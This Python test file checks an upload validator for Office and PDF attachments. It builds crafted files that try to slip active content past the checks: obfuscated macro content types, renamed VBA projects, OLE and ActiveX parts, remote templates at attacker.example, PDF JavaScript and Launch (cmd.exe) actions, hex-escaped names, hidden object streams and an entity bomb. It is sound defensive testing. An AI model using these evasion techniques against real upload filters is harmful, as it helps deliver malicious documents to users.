"""Active content in attachments: every way round the Office and PDF checks found by attacking the
running site, each refused."""

import io
import zipfile
import zlib

import pytest

from portfolios import active_content
from portfolios.uploads import check_upload

from .test_uploads import (
    content_types,
    message,
    ooxml,
    ooxml_members,
    pdf_bytes,
    rejection,
    upload,
    zip_bytes,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 120
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS_RELS = "http://schemas.microsoft.com/office/2006/relationships"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def rels(*relationships):
    body = "".join(
        f'<Relationship Id="rId{n}" Type="{kind}" Target="{target}"{extra}/>'
        for n, (kind, target, extra) in enumerate(relationships, start=1)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns='
        f'"http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>'
    )


# --- Office files -----------------------------------------------------------------------------


def test_a_macro_content_type_hidden_by_character_references_is_refused():
    content = ooxml("xlsx", main_type="application/vnd.ms-excel.sheet.&#109;acroEnabled.main+xml")

    assert rejection("caseload.xlsx", content).code == "macros"


def test_a_utf16_content_types_part_is_read_as_xml():
    xml = content_types(
        "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    xml = xml.replace('encoding="UTF-8"', 'encoding="UTF-16"')
    members = ooxml_members("docx")
    members["[Content_Types].xml"] = "\ufeff".encode("utf-16-le") + xml.encode("utf-16-le")

    assert rejection("supervision.docx", zip_bytes(members)).code == "macros"


def test_a_renamed_macro_project_is_found_by_its_relationship():
    content = ooxml(
        "docx",
        **{
            "word/settings.dat": OLE,
            "word/_rels/document.xml.rels": rels((f"{MS_RELS}/vbaProject", "settings.dat", "")),
        },
    )

    assert rejection("supervision.docx", content).code == "macros"


def test_an_ole_part_under_any_name_is_refused():
    content = ooxml("docx", **{"word/media/image1.png": OLE})

    assert rejection("supervision.docx", content).code == "active_content"


def test_a_remote_template_is_refused():
    content = ooxml(
        "docx",
        **{
            "word/settings.xml": "<w:settings/>",
            "word/_rels/settings.xml.rels": rels(
                (
                    f"{RELS}/attachedTemplate",
                    "https://attacker.example/template.dotm",
                    ' TargetMode="External"',
                )
            ),
        },
    )

    error = rejection("supervision.docx", content)

    assert error.code == "active_content"
    assert "links to content outside the file" in message(error)


def test_an_external_frame_or_object_is_refused():
    content = ooxml(
        "docx",
        **{
            "word/_rels/document.xml.rels": rels(
                (f"{RELS}/frame", "https://attacker.example/frame.html", ' TargetMode="External"')
            )
        },
    )

    assert rejection("supervision.docx", content).code == "active_content"


def test_an_embedded_ole_object_is_refused():
    extra = (
        '<Override PartName="/word/embeddings/oleObject1.bin" '
        'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
    )
    members = ooxml_members("docx")
    members["[Content_Types].xml"] = content_types("word/document.xml", DOCX_MAIN, extra)
    members["word/embeddings/oleObject1.bin"] = b"not even OLE"
    members["word/_rels/document.xml.rels"] = rels(
        (f"{RELS}/oleObject", "embeddings/oleObject1.bin", "")
    )

    assert rejection("supervision.docx", zip_bytes(members)).code == "active_content"


def test_an_activex_control_is_refused():
    extra = (
        '<Override PartName="/word/activeX/activeX1.xml" '
        'ContentType="application/vnd.ms-office.activeX+xml"/>'
    )
    members = ooxml_members("docx")
    members["[Content_Types].xml"] = content_types("word/document.xml", DOCX_MAIN, extra)
    members["word/activeX/activeX1.xml"] = "<ax:ocx/>"

    assert rejection("supervision.docx", zip_bytes(members)).code == "active_content"


def test_an_external_hyperlink_is_accepted():
    content = ooxml(
        "docx",
        **{
            "word/_rels/document.xml.rels": rels(
                (f"{RELS}/hyperlink", "https://www.gov.uk/", ' TargetMode="External"')
            ),
            "word/printerSettings/printerSettings1.bin": b"DEVMODE settings",
        },
    )

    assert check_upload(upload("supervision.docx", content)).extension == ".docx"


def test_package_xml_with_entities_is_refused_without_expanding_them():
    xml = (
        '<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">&b;</Types>'
    )
    members = ooxml_members("docx")
    members["[Content_Types].xml"] = xml

    assert rejection("supervision.docx", zip_bytes(members)).code == "damaged"


def test_two_parts_of_the_same_name_are_refused():
    members = ooxml_members("docx")
    content = zip_bytes(members)
    # A second [Content_Types].xml, declaring macros, after the first.
    buffer = io.BytesIO(content)
    with pytest.warns(UserWarning), zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(
            "[Content_Types].xml",
            content_types(
                "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
            ),
        )

    assert rejection("supervision.docx", buffer.getvalue()).code == "damaged"


# --- PDF files --------------------------------------------------------------------------------


def pdf(catalog=b"", objects=(), streams=()):
    """A small PDF: a catalog with `catalog` in its dictionary, more objects, and streams given as
    (dictionary, data) pairs."""
    parts = [b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"]
    parts.append(b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>\nendobj\n")
    parts.append(b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n")
    parts.append(b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n")
    number = 4
    for body in objects:
        parts.append(b"%d 0 obj\n" % number + body + b"\nendobj\n")
        number += 1
    for dictionary, data in streams:
        parts.append(
            b"%d 0 obj\n<< " % number
            + dictionary
            + b" /Length %d >>\nstream\n" % len(data)
            + data
            + b"\nendstream\nendobj\n"
        )
        number += 1
    parts.append(b"trailer\n<< /Root 1 0 R /Size %d >>\nstartxref\n0\n%%%%EOF\n" % number)
    return b"".join(parts)


def object_stream(*objects: bytes, first_number=10, compress=True):
    header, body, offset = [], b"", 0
    for n, obj in enumerate(objects):
        header.append(b"%d %d" % (first_number + n, offset))
        body += obj + b"\n"
        offset = len(body)
    head = b" ".join(header) + b"\n"
    data = head + body
    filters = b"/Filter /FlateDecode " if compress else b""
    dictionary = b"/Type /ObjStm /N %d /First %d " % (len(objects), len(head)) + filters
    return dictionary, zlib.compress(data) if compress else data


def test_a_plain_pdf_with_a_page_to_open_at_is_accepted():
    assert check_upload(upload("notes.pdf", pdf(b"/OpenAction [3 0 R /Fit]"))).extension == ".pdf"
    assert check_upload(upload("notes.pdf", pdf_bytes())).extension == ".pdf"


def test_the_page_to_open_at_may_be_in_another_object():
    content = pdf(b"/OpenAction 4 0 R", objects=[b"[3 0 R /FitH null]"])

    assert check_upload(upload("notes.pdf", content)).extension == ".pdf"


@pytest.mark.parametrize(
    ("catalog", "objects"),
    [
        (b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", []),
        (b"/Names << /JavaScript 4 0 R >>", [b"<< /Names [(a) 5 0 R] >>"]),
        (b"/OpenAction << /S /Launch /F (cmd.exe) >>", []),
        (b"/OpenAction 4 0 R", [b"<< /S /URI /URI (https://attacker.example/) >>"]),
        (b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>", []),
        (b"/Names << /EmbeddedFiles 4 0 R >>", [b"<< /Type /EmbeddedFile >>"]),
        (b"/AA << /WC 4 0 R >>", [b"<< /S /SubmitForm >>"]),
        (b"", [b"<< /Type /Annot /Subtype /RichMedia >>"]),
    ],
    ids=[
        "javascript-open-action",
        "javascript-names",
        "launch",
        "open-action-object",
        "open-action-dictionary",
        "embedded-file",
        "additional-actions",
        "rich-media",
    ],
)
def test_pdfs_with_active_content_are_refused(catalog, objects):
    error = rejection("notes.pdf", pdf(catalog, objects=objects))

    assert error.code == "active_content"
    assert "“notes.pdf” contains" in message(error)


@pytest.mark.parametrize(
    "catalog",
    [
        b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>",
        b"/OpenAction << /S /#4C#61#75#6E#63#68 /F (cmd.exe) >>",
        b"/Names << /#45mbeddedFiles 4 0 R >>",
    ],
)
def test_hex_escaped_names_are_read_as_what_they_spell(catalog):
    assert rejection("notes.pdf", pdf(catalog, objects=[b"<< >>"])).code == "active_content"


def test_javascript_inside_a_compressed_object_stream_is_refused():
    content = pdf(
        b"/OpenAction 10 0 R",
        streams=[object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>")],
    )
    assert b"JavaScript" not in content

    assert rejection("notes.pdf", content).code == "active_content"


def test_an_action_in_an_object_stream_is_found_through_the_open_action_reference():
    content = pdf(
        b"/OpenAction 10 0 R",
        streams=[object_stream(b"<< /S /URI /URI (https://attacker.example/) >>")],
    )

    assert rejection("notes.pdf", content).code == "active_content"


def test_a_page_to_open_at_in_an_object_stream_is_accepted():
    content = pdf(b"/OpenAction 10 0 R", streams=[object_stream(b"[3 0 R /Fit]")])

    assert check_upload(upload("notes.pdf", content)).extension == ".pdf"


def test_an_object_stream_under_another_filter_is_refused():
    dictionary, data = object_stream(b"<< /S /JavaScript >>", compress=False)
    hexed = data.hex().encode() + b">"

    content = pdf(streams=[(dictionary + b"/Filter /ASCIIHexDecode", hexed)])

    assert rejection("notes.pdf", content).code == "active_content"


def test_an_object_stream_that_inflates_too_far_is_refused(monkeypatch):
    monkeypatch.setattr(active_content, "MAX_PDF_INFLATED_BYTES", 64 * 1024)
    content = pdf(streams=[object_stream(b"<< /Filler (" + b"a" * 200_000 + b") >>")])

    assert rejection("notes.pdf", content).code == "unsafe_archive"


def test_an_encrypted_pdf_is_refused():
    content = pdf(objects=[b"<< /Filter /Standard /V 2 /R 3 >>"]).replace(
        b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 4 0 R"
    )

    assert rejection("notes.pdf", content).code == "encrypted"


def test_page_content_is_not_read_for_names():
    # The words of a page about JavaScript are not an action.
    page = zlib.compress(b"BT /F1 12 Tf (How /JavaScript and /Launch work) Tj ET")
    content = pdf(streams=[(b"/Filter /FlateDecode", page)])

    assert check_upload(upload("notes.pdf", content)).extension == ".pdf"
